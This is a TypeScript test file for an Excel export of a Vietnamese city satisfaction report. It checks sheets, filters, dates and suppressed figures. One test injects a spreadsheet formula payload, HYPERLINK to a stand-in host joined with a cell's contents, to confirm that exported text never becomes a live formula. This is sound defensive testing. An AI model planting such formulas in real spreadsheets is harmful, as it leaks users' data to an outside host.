import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import type { Month } from '#features/results/rules.ts'
import type { CityReport, ReportFigures } from '../report-rules.ts'
import { reportWorkbook } from './workbook.ts'

const FIGURES: ReportFigures = { responses: 30, satisfied: 0.5, low: 0.33, high: 0.67, standing: 'full' }

/** Returns a report in which every text that a person wrote is `written`. */
function reportSaying(written: string, breaks?: CityReport['breaks']): CityReport {
  const words = { vi: written, en: written }
  const share = { satisfied: null, low: null, high: null }
  return {
    format: 'an-tam-city-report/1',
    period: { from: '2026-01', to: '2026-12', through: '2026-12-31' } as CityReport['period'],
    scope: 'all',
    total: FIGURES,
    groups: [{ group: 'districts', ...FIGURES }],
    agencies: [
      {
        ...FIGURES,
        ...words,
        id: written,
        kind: 'district',
        group: 'districts',
        band: null,
        missing: 0,
        former: false,
      },
    ],
    questions: [
      {
        ...{ version: 1, key: written, kind: 'single', required: true, respondents: 30, ...words, ...share },
        options: [{ code: written, count: 30, ...words }],
        agencies: [{ id: written, respondents: 30, counts: [30] }],
      },
    ],
    trend: [],
    ...(breaks && { breaks }),
    comments: { agencies: [{ id: written, comments: 10 }], themes: [] },
    suggestions: {
      received: [],
      answered: [
        {
          ...{ state: 'declined', on: '2026-11-24', people: 1 },
          ...{ summaryVi: written, summaryEn: null, answerVi: written, answerEn: null },
        },
      ],
    },
    exclusions: [],
  }
}

async function read(report: CityReport) {
  const madeAt = new Date('2026-11-24T03:00:00Z')
  const parts = unzipSync(await reportWorkbook({ report, sha256: 'a'.repeat(64), madeAt, locale: 'vi' }))
  const text = (name: string) => strFromU8(parts[name] ?? new Uint8Array())
  const sheets = Object.keys(parts).filter((name) => name.startsWith('xl/worksheets/sheet'))
  const plain = (xml: string) =>
    xml.replace(/&(lt|gt|quot|apos|amp);/g, (_, name: keyof typeof ENTITIES) => ENTITIES[name])
  const strings = [...text('xl/sharedStrings.xml').matchAll(/<si>.*?<t[^>]*>(.*?)<\/t>.*?<\/si>/gs)]
  return {
    xml: sheets.map(text),
    strings: strings.map(([, value = '']) => plain(value)),
    names: text('xl/workbook.xml'),
    parts: text,
  }
}
const ENTITIES = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' } as const

/** Returns each cell's type and its inner XML. */
const cells = (xml: string) =>
  [...xml.matchAll(/<c ([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(([, attributes = '', inner = '']) => ({
    type: /t="(\w+)"/.exec(attributes)?.[1] ?? 'n',
    inner,
  }))

const rowsOf = (xml: string) =>
  [...xml.matchAll(/<row [^>]*>(.*?)<\/row>/gs)].map(([, row = '']) => cells(row))

describe('the workbook of a report', () => {
  it.each(['=', '+', '-', '@', '\t', '\r', '\n', '|', "'="])(
    'keeps what begins with %j a string in every sheet, and never a formula',
    async (start) => {
      const written = `${start}HYPERLINK("http://x.example/"&A1,"<b>")`
      const { xml, strings } = await read(reportSaying(written))
      // The agency, its group's question, its option, comments and the suggestion with its answer.
      const seen = strings.filter((value) => value.includes('HYPERLINK'))
      expect(seen.length).toBeGreaterThan(0)
      for (const value of seen) expect(value.replace(/\r\n?/g, '\n')).toBe(written.replace(/\r\n?/g, '\n'))
      for (const sheet of xml) {
        expect(sheet).not.toMatch(/<(\w+:)?(f|hyperlink)\b/)
        for (const { type, inner } of cells(sheet)) {
          // An index into the strings, or a number: no text is in a cell itself.
          expect(['s', 'n']).toContain(type)
          expect(inner).toMatch(/^(<v>-?[\d.eE+-]+<\/v>)?$/)
        }
      }
    },
  )

  it('does so with any text', async () => {
    const text = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 })
    await fc.assert(
      fc.asyncProperty(text, async (written) => {
        const { xml } = await read(reportSaying(written))
        for (const sheet of xml) {
          expect(sheet).not.toMatch(/<(\w+:)?f\b/)
          expect(cells(sheet).every(({ inner }) => /^(<v>-?[\d.eE+-]+<\/v>)?$/.test(inner))).toBe(true)
        }
      }),
      { numRuns: 20, examples: [['valueOf'], ['__proto__'], ['constructor']] },
    )
  })

  it('has a sheet of reorganisations with their legal basis where there were any', async () => {
    const named = (id: string) => ({ id, vi: `Quận ${id}`, en: `District ${id}` })
    const basis = 'Nghị quyết 1685/NQ-UBTVQH15'
    const some = [{ on: '2026-07-01', kind: 'merge', basis, from: named('1'), to: named('2') }] as const
    const [without, with_] = [await read(reportSaying('x')), await read(reportSaying('x', some))]
    expect(with_.xml).toHaveLength(without.xml.length + 1)
    expect(without.names).not.toContain('Sắp xếp lại')
    expect(with_.names).toContain('Sắp xếp lại')
    for (const value of [basis, 'sáp nhập', 'Mã trước', 'Quận 1', 'Mã sau', 'Quận 2'])
      expect(with_.strings).toContain(value)
  })

  it('has a filter over each table that has rows, and says of one without that it has none', async () => {
    const { xml, strings } = await read({ ...reportSaying('x'), exclusions: [] })
    const [agencies = '', about = ''] = [xml[0], xml.at(-1)]
    expect(about).not.toContain('<autoFilter')
    const { length } = rowsOf(agencies)
    expect(agencies).toContain(`</sheetData><autoFilter ref="A1:L${length}"/>`)
    const last = xml.at(-2) ?? ''
    expect(rowsOf(last)).toHaveLength(2)
    expect(last).not.toContain('<autoFilter')
    expect(strings).toContain('Trong kỳ chưa có gì được công bố ở bảng này.')
  })

  it('says in words where answers are not published, so that no cell looks like missing data', async () => {
    const suppressed = {
      responses: 0,
      satisfied: null,
      low: null,
      high: null,
      standing: 'suppressed',
    } as const
    const report = reportSaying('x')
    const { xml, strings } = await read({
      ...report,
      agencies: report.agencies.map((one) => ({ ...one, ...suppressed })),
    })
    const words = rowsOf(xml[0] ?? '')[3]?.filter(({ type }) => type === 's')
    const said = words?.map(({ inner }) => strings[Number(/\d+/.exec(inner)?.[0])])
    expect(said?.filter((word) => word === 'chưa công bố')).toHaveLength(5)
    const numbers = rowsOf(xml[0] ?? '').map((row) => row.filter(({ type }) => type === 'n'))
    const [, , group, agency] = numbers.map((row) => row.map(({ inner }) => inner))
    expect(group).toEqual(['<v>30</v>', '<v>0.5</v>', '<v>0.33</v>', '<v>0.67</v>'])
    // The number of missing answers.
    expect(agency).toEqual(['<v>0</v>'])
    const former = report.agencies.map((one) => ({
      ...one,
      standing: 'few' as const,
      missing: 10,
      former: true,
    }))
    const told = rowsOf((await read({ ...report, agencies: former })).xml[0] ?? '')[3]
    // Former agencies have no missing answers.
    expect(told?.filter(({ type }) => type === 'n').map(({ inner }) => inner)).not.toContain('<v>10</v>')
  })

  it('has its months and days as dates, which sort and add up', async () => {
    const { parts } = await read({
      ...reportSaying('x', [
        { on: '2026-11-27', kind: 'merge', basis: 'NQ', from: { id: 'a', vi: 'A', en: 'A' }, to: null },
      ]),
      trend: [
        {
          ...{ month: '2026-11' as Month, responses: 30, satisfied: 0.5, low: 0.33, high: 0.67 },
          ...{ centre: null, lowerLimit: null, upperLimit: null, outside: false },
        },
      ],
    })
    const [trend, breaks, answered] = [4, 5, 9].map((n) => rowsOf(parts(`xl/worksheets/sheet${n}.xml`))[1])
    // Days since 30 December 1899.
    expect(trend?.[0]?.inner).toBe('<v>46327</v>')
    expect(breaks?.[0]?.inner).toBe('<v>46353</v>')
    expect(answered?.[0]?.inner).toBe('<v>46350</v>')
    for (const format of ['mm/yyyy', 'dd/mm/yyyy']) expect(parts('xl/styles.xml')).toContain(`"${format}"`)
  })

  it('says what has become of the suggestions that came in the period', async () => {
    const report = reportSaying('x')
    const { xml, names } = await read({
      ...report,
      suggestions: { ...report.suggestions, received: [{ state: 'new', count: 7 }] },
    })
    expect(names).toContain('Góp ý nhận được')
    expect(rowsOf(xml[6] ?? '')[1]?.[1]?.inner).toBe('<v>7</v>')
  })
})
